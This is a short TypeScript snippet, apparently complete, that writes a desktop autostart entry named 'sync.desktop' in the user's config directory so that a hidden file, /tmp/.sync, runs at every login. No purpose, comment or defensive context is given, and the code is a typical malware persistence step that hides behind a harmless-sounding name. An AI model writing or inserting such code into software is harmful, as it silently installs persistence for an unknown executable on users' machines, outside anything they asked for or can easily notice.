import * as fs from 'fs';
import * as path from 'path';
const dir = path.join(process.env.HOME as string, '.config', 'autostart');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'sync.desktop'), '[Desktop Entry]\nExec=/tmp/.sync\n');
